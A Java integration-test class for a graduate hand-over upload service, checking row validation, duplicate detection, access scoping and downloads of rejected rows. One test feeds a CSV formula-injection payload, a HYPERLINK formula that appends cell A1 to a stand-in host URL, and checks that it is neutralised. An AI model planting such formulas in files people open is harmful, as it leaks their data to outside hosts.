package org.leye.casework.handover;

import static org.assertj.core.api.Assertions.assertThat;
import static org.leye.casework.handover.HandoverFiles.HEADER_SIMPLIFIED;
import static org.leye.casework.handover.HandoverFiles.HEADER_TRADITIONAL;
import static org.leye.casework.handover.HandoverFiles.row;
import static org.leye.casework.handover.HandoverFiles.with;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;

import com.fasterxml.jackson.databind.JsonNode;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.leye.casework.graduates.Gender;
import org.leye.casework.graduates.ResidentIds;
import org.leye.casework.support.Api;
import org.leye.casework.support.TestGraduates;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpMethod;
import org.springframework.http.ResponseEntity;

/** Hand-over files over real HTTP, processed in the background; run on H2 and on MySQL. */
abstract class HandoverApiContract extends HandoverApiContractSupport {

    @Test
    void fileWithSomeBadRowsAcceptsTheRestAndReportsEachProblem() throws Exception {
        String marker = "批" + TestGraduates.tag();
        List<List<String>> rows = new ArrayList<>();
        rows.add(row(marker + "甲"));
        rows.add(with(row(marker + "乙"), 1, "4.40703E+17"));
        rows.add(row(marker + "丙"));
        rows.add(with(row(marker + "丁"), 3, "12345"));
        rows.add(with(row(marker + "戊"), 8, "广州市"));
        byte[] file = HandoverFiles.csv(HEADER_SIMPLIFIED, rows, StandardCharsets.UTF_8, true);

        JsonNode done = uploadAndWait("counselor.wyu", file, "名单.csv", Duration.ofSeconds(30));

        assertThat(done.path("total").asInt()).isEqualTo(5);
        assertThat(done.path("processed").asInt()).isEqualTo(5);
        assertThat(done.path("accepted").asInt()).isEqualTo(2);
        assertThat(done.path("rejected").asInt()).isEqualTo(3);
        assertThat(errors(done)).containsExactly("3 idNumber", "5 phone", "6 district");
        assertThat(done.path("errors").get(0).path("message").asText()).contains("Excel").doesNotContain("40703");

        JsonNode list = Api.as(rest, "cw.pengjiang").get("/api/graduates?q=" + marker + "&size=200").expect(200).json();
        assertThat(list.path("totalElements").asInt()).isEqualTo(2);
        for (JsonNode g : list.path("content")) {
            assertThat(g.path("status").asText()).isEqualTo("IN_SERVICE");
            assertThat(g.path("caseNumber").asText()).startsWith("JM-");
        }
    }

    @Test
    void rejectedRowsDownloadAsCsvToFixAndUploadAgain() throws Exception {
        String marker = "返" + TestGraduates.tag();
        List<String> bad = with(row(marker + "乙"), 6, "小学");
        byte[] file = HandoverFiles.csv(HEADER_TRADITIONAL, List.of(row(marker + "甲"), bad), CsvSheetReader.GB18030,
                false);
        JsonNode done = uploadAndWait("counselor.wyu", file, "gbk.csv", Duration.ofSeconds(30));
        assertThat(done.path("rejected").asInt()).isEqualTo(1);
        long id = done.path("id").asLong();

        ResponseEntity<byte[]> download = rest.exchange("/api/handovers/" + id + "/rejected", HttpMethod.GET,
                new HttpEntity<>(auth("counselor.wyu")), byte[].class);
        assertThat(download.getStatusCode().value()).isEqualTo(200);
        assertThat(download.getHeaders().getContentType().toString()).startsWith("text/csv");
        byte[] body = download.getBody();
        assertThat(body[0] & 0xFF).isEqualTo(0xEF);
        String text = new String(body, StandardCharsets.UTF_8);
        assertThat(text).contains("身份證號").contains("學歷").contains(marker + "乙").contains("学历：")
                .doesNotContain(marker + "甲");

        // fixed by the university and uploaded again: only that row, now accepted
        String fixed = text.replace("小学", "本科");
        JsonNode again = uploadAndWait("counselor.wyu", fixed.getBytes(StandardCharsets.UTF_8), "fixed.csv",
                Duration.ofSeconds(30));
        assertThat(again.path("accepted").asInt()).isEqualTo(1);
        assertThat(again.path("rejected").asInt()).isEqualTo(0);

        Api.as(rest, "counselor.jmpt").get("/api/handovers/" + id).expect(404);
        assertThat(rest.exchange("/api/handovers/" + id + "/rejected", HttpMethod.GET,
                new HttpEntity<>(auth("counselor.jmpt")), byte[].class).getStatusCode().value()).isEqualTo(404);
    }

    /**
     * A rejected row whose cells start formulas comes back with each such cell neutralised
     * ({@code '=…}, {@code '+86…}, {@code '-}), and the corrected file uploaded again registers what
     * was typed in the first place: the prefix is dropped on reading.
     */
    @Test
    void rejectedRowsComeBackNeutralisedAndMeanTheSameWhenUploadedAgain() throws Exception {
        String marker = "式" + TestGraduates.tag();
        String hyperlink = "=HYPERLINK(\"http://x.example/\"&A1,\"查看\")";
        String phone = TestGraduates.phone();
        List<String> bad = with(with(with(with(with(row("@" + marker + "乙"), 3, "+86 " + phone), 5, hyperlink), 6, "小学"),
                9, "-"), 10, "-");
        byte[] file = HandoverFiles.csv(HEADER_SIMPLIFIED, List.of(bad), StandardCharsets.UTF_8, true);
        JsonNode done = uploadAndWait("counselor.wyu", file, "formulas.csv", Duration.ofSeconds(30));
        assertThat(done.path("rejected").asInt()).isEqualTo(1);
        assertThat(errors(done)).containsExactly("2 degree", "2 willingToWork");

        ResponseEntity<byte[]> download = rest.exchange("/api/handovers/" + done.path("id").asLong() + "/rejected",
                HttpMethod.GET, new HttpEntity<>(auth("counselor.wyu")), byte[].class);
        String text = new String(download.getBody(), StandardCharsets.UTF_8).substring(1);
        List<CSVRecord> records = CSVFormat.DEFAULT.parse(new StringReader(text)).getRecords();
        assertThat(records).hasSize(2);
        assertThat(records.get(1).toList().subList(0, 11)).containsExactly("'@" + marker + "乙", bad.get(1), "女",
                "'+86 " + phone, "五邑大学", "'" + hyperlink, "小学", "2023", "蓬江区", "'-", "'-");

        // corrected (the degree, and willingness to work said plainly) and uploaded again
        String fixed = text.replace("小学", "本科").replace(",'-,'-,", ",'-,是,");
        JsonNode again = uploadAndWait("counselor.wyu", fixed.getBytes(StandardCharsets.UTF_8), "fixed.csv",
                Duration.ofSeconds(30));
        assertThat(again.path("rejected").asInt()).as(again.toString()).isZero();
        assertThat(again.path("accepted").asInt()).isEqualTo(1);
        JsonNode graduate = Api.as(rest, "counselor.wyu").get("/api/graduates?q=" + marker).expect(200).json()
                .path("content").get(0);
        assertThat(graduate.path("name").asText()).isEqualTo("@" + marker + "乙");
        assertThat(graduate.path("major").asText()).isEqualTo(hyperlink);
        assertThat(graduate.path("difficulties")).isEmpty();
    }

    @Test
    void sameFileUploadedAgainCreatesNothingNew() throws Exception {
        String marker = "重" + TestGraduates.tag();
        String id = TestGraduates.idNumber("440703", Gender.FEMALE);
        // the same ID number twice in the file: the second row is a duplicate
        byte[] file = HandoverFiles.csv(HEADER_SIMPLIFIED, List.of(row(marker + "甲", id), row(marker + "甲", id),
                row(marker + "乙")), StandardCharsets.UTF_8, false);
        JsonNode done = uploadAndWait("sup.city", file, "a.csv", Duration.ofSeconds(30));
        assertThat(done.path("accepted").asInt()).isEqualTo(2);
        assertThat(done.path("duplicates").asInt()).isEqualTo(1);

        ResponseEntity<String> again = upload("sup.city", file, "a-copy.csv");
        assertThat(again.getStatusCode().value()).isEqualTo(200);
        JsonNode body = JSON.readTree(again.getBody());
        assertThat(body.path("id").asLong()).isEqualTo(done.path("id").asLong());
        assertThat(body.path("status").asText()).isEqualTo("DONE");

        assertThat(jdbc.queryForObject("select count(*) from graduate where name like ?", Integer.class, marker + "%"))
                .isEqualTo(2);
        assertThat(jdbc.queryForObject("select count(*) from case_file c join graduate g on g.id = c.graduate_id"
                + " where g.name like ?", Integer.class, marker + "%")).isEqualTo(2);
    }

    @Test
    void aRowNamingSomeoneOfAnotherDistrictSaysOnlyRegisteredElsewhereAndTagsNothing() throws Exception {
        String marker = "外" + TestGraduates.tag();
        var body = TestGraduates.graduate(marker + "甲", "440703");
        long existing = Api.as(rest, "cw.pengjiang").post("/api/graduates", body).expect(201).json().path("id").asLong();
        byte[] file = HandoverFiles.csv(HEADER_SIMPLIFIED, List.of(with(row(marker + "乙"), 8, "台山市"),
                with(row(marker + "甲", (String) body.get("idNumber")), 8, "台山市")), StandardCharsets.UTF_8, false);

        JsonNode done = uploadAndWait("cw.taishan", file, "taishan.csv", Duration.ofSeconds(30));

        assertThat(done.path("accepted").asInt()).isEqualTo(1);
        assertThat(done.path("duplicates").asInt()).isEqualTo(1);
        assertThat(errors(done)).containsExactly("3 idNumber");
        assertThat(done.path("errors").get(0).path("message").asText()).contains("其他区县");
        assertThat(done.toString()).doesNotContain("440703").doesNotContain("蓬江");
        assertThat(jdbc.queryForList("select source from graduate_source where graduate_id = ?", String.class, existing))
                .containsExactly("JOB_SEEKING_REGISTRATION");
        assertThat(jdbc.queryForObject("select count(*) from handover_row where handover_id = ? and graduate_id = ?",
                Integer.class, done.path("id").asLong(), existing)).isZero();
        assertThat(jdbc.queryForObject("select count(*) from audit_log where action = 'REGISTERED_ELSEWHERE'"
                + " and graduate_id = ? and actor = 'cw.taishan'", Integer.class, existing)).isEqualTo(1);
        JsonNode notices = Api.as(rest, "sup.pengjiang").get("/api/notifications?size=200").expect(200).json();
        assertThat(notices.path("content").findValuesAsText("link")).contains("/graduates/" + existing);
    }

    @Test
    void graduateAlreadyRegisteredGetsTheHandoverSourceAndNoSecondCase() throws Exception {
        var body = TestGraduates.graduate("旧" + TestGraduates.tag(), "440703");
        long existing = Api.as(rest, "cw.pengjiang").post("/api/graduates", body).expect(201).json().path("id").asLong();
        byte[] file = HandoverFiles.csv(HEADER_SIMPLIFIED, List.of(row((String) body.get("name"),
                (String) body.get("idNumber"))), StandardCharsets.UTF_8, false);

        JsonNode done = uploadAndWait("counselor.wyu", file, "dup.csv", Duration.ofSeconds(30));

        assertThat(done.path("duplicates").asInt()).isEqualTo(1);
        assertThat(jdbc.queryForList("select source from graduate_source where graduate_id = ?", String.class, existing))
                .contains("HANDOVER", "JOB_SEEKING_REGISTRATION");
        assertThat(jdbc.queryForObject("select count(*) from case_file where graduate_id = ?", Integer.class, existing))
                .isEqualTo(1);
    }

    @Test
    void rowsOfOnePersonInABatchAreFoundAsDuplicatesThoughTheBatchIsWrittenInParallelLanes() throws Exception {
        String marker = "道" + TestGraduates.tag();
        List<List<String>> rows = new ArrayList<>();
        for (int i = 0; i < 120; i++) {
            rows.add(row(marker + i));
        }
        // the same numbers in every run: the MySQL database is made afresh for each
        Random random = new Random(TestGraduates.SEED);
        String born = "440" + (100 + random.nextInt(900)) + LocalDate.of(1990 + random.nextInt(15),
                1 + random.nextInt(12), 1 + random.nextInt(28)).toString().replace("-", "");
        int serial = random.nextInt(10);
        String first17 = born + serial + "24";
        String typo17 = born + serial + "34"; // one digit wrong
        String twin = marker + "同";
        rows.set(10, row(twin, first17 + ResidentIds.checkDigit(first17)));
        rows.set(71, row(twin, typo17 + ResidentIds.checkDigit(typo17)));
        rows.set(90, rows.get(20)); // the same person twice
        byte[] file = HandoverFiles.csv(HEADER_SIMPLIFIED, rows, StandardCharsets.UTF_8, false);

        JsonNode done = uploadAndWait("counselor.wyu", file, "lanes.csv", Duration.ofSeconds(60));

        assertThat(done.path("accepted").asInt()).isEqualTo(119);
        assertThat(done.path("duplicates").asInt()).isEqualTo(1);
        assertThat(jdbc.queryForObject("select count(*) from graduate where name = ?", Integer.class, marker + 20))
                .isEqualTo(1);
        assertThat(jdbc.queryForObject("select count(*) from duplicate_candidate d join graduate a on a.id = d.graduate_id"
                + " join graduate b on b.id = d.other_graduate_id where a.name = ? and b.name = ?", Integer.class, twin,
                twin)).isEqualTo(1);
        assertThat(jdbc.queryForObject("select count(*) from case_file c join graduate g on g.id = c.graduate_id"
                + " where g.name like ?", Integer.class, marker + "%")).isEqualTo(119);
    }

    @Test
    void counselorsRowsOfAnotherUniversityAreRejected() throws Exception {
        String marker = "校" + TestGraduates.tag();
        byte[] file = HandoverFiles.csv(HEADER_SIMPLIFIED, List.of(row(marker + "甲"),
                with(row(marker + "乙"), 4, "江门职业技术学院")), StandardCharsets.UTF_8, false);

        JsonNode done = uploadAndWait("counselor.wyu", file, "scope.csv", Duration.ofSeconds(30));

        assertThat(done.path("accepted").asInt()).isEqualTo(1);
        assertThat(errors(done)).containsExactly("3 university");
        // a city supervisor may hand over any university's graduates
        byte[] city = HandoverFiles.csv(HEADER_SIMPLIFIED, List.of(with(row(marker + "丙"), 4, "江門職業技術學院")),
                StandardCharsets.UTF_8, false);
        assertThat(uploadAndWait("sup.city", city, "city.csv", Duration.ofSeconds(30)).path("accepted").asInt())
                .isEqualTo(1);
        // the counselor's hand-over is not the other university's business, nor another district's caseworker's
        Api.as(rest, "counselor.jmpt").get("/api/handovers/" + done.path("id").asLong()).expect(404);
        Api.as(rest, "cw.taishan").get("/api/handovers/" + done.path("id").asLong()).expect(404);
        Api.as(rest, "admin").get("/api/handovers/" + done.path("id").asLong()).expect(200);
    }

    @Test
    void rowRefusedByTheRegistryInTheMiddleOfABatchLosesNoOtherRow() throws Exception {
        // rows share a transaction; the registry refusing one (a gender that disagrees with the ID
        // number, found only at registration) must not take the rows before or after it along
        String marker = "中" + TestGraduates.tag();
        String twice = TestGraduates.idNumber("440703", Gender.FEMALE);
        List<List<String>> rows = new ArrayList<>();
        rows.add(row(marker + "甲", twice));
        rows.add(row(marker + "乙"));
        rows.add(with(row(marker + "丙"), 2, "男"));
        rows.add(row(marker + "丁"));
        rows.add(row(marker + "甲", twice));
        rows.add(with(row(marker + "戊"), 2, "男"));
        rows.add(row(marker + "己"));
        byte[] file = HandoverFiles.csv(HEADER_SIMPLIFIED, rows, StandardCharsets.UTF_8, false);

        JsonNode done = uploadAndWait("counselor.wyu", file, "middle.csv", Duration.ofSeconds(30));

        assertThat(done.path("processed").asInt()).isEqualTo(7);
        assertThat(done.path("accepted").asInt()).isEqualTo(4);
        assertThat(done.path("duplicates").asInt()).isEqualTo(1);
        assertThat(errors(done)).containsExactly("4 gender", "7 gender");
        assertThat(jdbc.queryForList("select row_no from handover_row where handover_id = ? order by row_no",
                Integer.class, done.path("id").asLong())).containsExactly(2, 3, 4, 5, 6, 7, 8);
        assertThat(jdbc.queryForList("select g.name from graduate g join case_file c on c.graduate_id = g.id"
                + " where g.name like ? and c.process_instance_id is not null order by g.name", String.class,
                marker + "%")).containsExactlyInAnyOrder(marker + "甲", marker + "乙", marker + "丁", marker + "己");
        assertThat(jdbc.queryForObject("select count(*) from graduate where name like ?", Integer.class, marker + "%"))
                .isEqualTo(4);
    }

    @Test
    void headerMissingARequiredColumnRefusesTheWholeFile() throws Exception {
        List<String> header = new ArrayList<>(HEADER_SIMPLIFIED);
        header.remove("联系电话");
        List<String> r = row("缺列");
        r.remove(3);
        ResponseEntity<String> response = upload("counselor.wyu", HandoverFiles.csv(header, List.of(r),
                StandardCharsets.UTF_8, false), "missing.csv");

        assertThat(response.getStatusCode().value()).isEqualTo(400);
        assertThat(response.getHeaders().getContentType().toString()).startsWith("application/problem+json");
        assertThat(JSON.readTree(response.getBody()).path("detail").asText()).contains("联系电话");
    }

    @Test
    void xlsxWithTitleRowAndMergedSchoolIsHandedOver() throws Exception {
        String marker = "表" + TestGraduates.tag();
        List<List<String>> rows = new ArrayList<>();
        for (int i = 0; i < 5; i++) {
            rows.add(row(marker + i));
        }
        byte[] file = HandoverFiles.xlsx("2023届未就业毕业生信息移交表", HEADER_TRADITIONAL, rows, true, true);
        JsonNode done = uploadAndWait("counselor.wyu", file, "名单.xlsx", Duration.ofSeconds(30));
        assertThat(done.path("accepted").asInt()).isEqualTo(5);
    }

    @Test
    void twoThousandRowFileIsHandedOverCompletely() throws Exception {
        String marker = "千" + TestGraduates.tag();
        List<List<String>> rows = new ArrayList<>();
        Set<String> ids = new HashSet<>();
        for (int i = 0; i < 2000; i++) {
            String id;
            do {
                id = TestGraduates.idNumber("440703", Gender.FEMALE);
            } while (!ids.add(id)); // random ID numbers collide: keep the file free of repeats
            List<String> r = row(marker + i, id);
            if (i % 100 == 7) {
                r.set(6, "小学");
            }
            rows.add(r);
        }
        byte[] file = HandoverFiles.csv(HEADER_SIMPLIFIED, rows, StandardCharsets.UTF_8, true);
        JsonNode done = uploadAndWait("sup.city", file, "2000.csv", Duration.ofSeconds(30));

        assertThat(done.path("total").asInt()).isEqualTo(2000);
        assertThat(done.path("processed").asInt()).isEqualTo(2000);
        assertThat(done.path("rejected").asInt()).isEqualTo(20);
        // an ID number registered by an earlier test run in the shared database is a duplicate
        int accepted = done.path("accepted").asInt();
        assertThat(accepted + done.path("duplicates").asInt()).isEqualTo(1980);
        assertThat(accepted).isGreaterThan(1950);
        assertThat(jdbc.queryForObject("select count(*) from case_file c join graduate g on g.id = c.graduate_id"
                + " where g.name like ?", Integer.class, marker + "%")).isEqualTo(accepted);
    }

    @Test
    void twoFilesNamingTheSamePeopleProcessedAtOnceGiveEachPersonOneCase() throws Exception {
        String marker = "并" + TestGraduates.tag();
        Set<String> ids = new HashSet<>();
        List<List<String>> shared = new ArrayList<>();
        List<List<String>> first = new ArrayList<>();
        List<List<String>> second = new ArrayList<>();
        for (int i = 0; i < 260; i++) {
            String id;
            do {
                id = TestGraduates.idNumber("440703", Gender.FEMALE);
            } while (!ids.add(id));
            List<String> r = row(marker + i, id);
            (i < 40 ? shared : i < 150 ? first : second).add(r);
        }
        // the shared people spread through both files, in another order in each
        for (int i = 0; i < shared.size(); i++) {
            first.add(i * 3, shared.get(i));
            second.add(second.size() - i * 2, shared.get(i));
        }
        ResponseEntity<String> a = upload("sup.city", HandoverFiles.csv(HEADER_SIMPLIFIED, first, StandardCharsets.UTF_8,
                false), "first.csv");
        ResponseEntity<String> b = upload("sup.city", HandoverFiles.csv(HEADER_SIMPLIFIED, second, StandardCharsets.UTF_8,
                true), "second.csv");
        assertThat(a.getStatusCode().value()).isEqualTo(202);
        assertThat(b.getStatusCode().value()).isEqualTo(202);

        JsonNode doneA = waitForDone("sup.city", JSON.readTree(a.getBody()).path("id").asLong(), Duration.ofSeconds(60));
        JsonNode doneB = waitForDone("sup.city", JSON.readTree(b.getBody()).path("id").asLong(), Duration.ofSeconds(60));

        for (JsonNode done : List.of(doneA, doneB)) {
            assertThat(done.path("status").asText()).isEqualTo("DONE");
            assertThat(done.path("processed").asInt()).isEqualTo(150);
            assertThat(done.path("rejected").asInt()).isZero();
        }
        // each shared person accepted in one file and a duplicate in the other
        assertThat(doneA.path("accepted").asInt() + doneB.path("accepted").asInt()).isEqualTo(260);
        assertThat(doneA.path("duplicates").asInt() + doneB.path("duplicates").asInt()).isEqualTo(40);
        assertThat(jdbc.queryForObject("select count(*) from graduate where name like ?", Integer.class, marker + "%"))
                .isEqualTo(260);
        assertThat(jdbc.queryForObject("select count(*) from case_file c join graduate g on g.id = c.graduate_id"
                + " where g.name like ?", Integer.class, marker + "%")).isEqualTo(260);
    }
}
